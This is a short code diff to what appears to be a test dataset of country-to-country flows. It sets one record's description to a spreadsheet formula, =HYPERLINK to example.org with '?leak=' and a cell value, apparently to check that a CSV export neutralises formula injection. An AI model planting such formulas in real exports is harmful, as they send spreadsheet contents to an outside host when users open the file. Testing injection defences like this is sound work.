@@ -142,7 +142,9 @@ function dataset() {
     },
     {
       id: FLOW_IDS[4], from: 'RUS', to: 'SRB', category: CAT[1], value: 'undisclosed',
-      description: localized('flow-5-description'), status: 'denied',
+      // A spreadsheet formula: the CSV download must not hand it over live.
+      description: { ...localized('flow-5-description'), en: `=HYPERLINK("https://example.org/?leak="&A1,"flow-5-description")` },
+      status: 'denied',
       citations: [cite(s2, p2, 'claims', 'flow-5-quote'), cite(s3, p3, 'denies', 'flow-5-quote-denial')],
     },
     {
